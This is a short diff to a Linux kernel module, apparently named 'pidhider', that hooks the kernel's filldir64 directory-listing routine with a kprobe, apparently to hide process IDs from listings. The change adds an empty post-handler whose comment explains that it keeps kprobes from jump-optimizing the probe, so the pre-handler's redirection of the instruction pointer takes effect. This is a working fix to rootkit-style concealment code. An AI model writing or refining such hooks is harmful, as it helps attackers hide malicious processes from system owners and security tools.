@@ -61,9 +61,21 @@ static int pidhider_pre(struct kprobe *p, struct pt_regs *regs)
 	return 1;
 }
 
+/*
+ * Never called (the probe sits at the function's entry, where it is
+ * ftrace-based); its presence keeps kprobes from jump-optimizing the probe,
+ * which would ignore the pre-handler's new regs->ip
+ * (Documentation/trace/kprobes.rst, "Changing Execution Path").
+ */
+static void pidhider_post(struct kprobe *p, struct pt_regs *regs,
+			  unsigned long flags)
+{
+}
+
 static struct kprobe pidhider_kp = {
 	.symbol_name	= "filldir64",
 	.pre_handler	= pidhider_pre,
+	.post_handler	= pidhider_post,
 };
 
 static int __init pidhider_init(void)
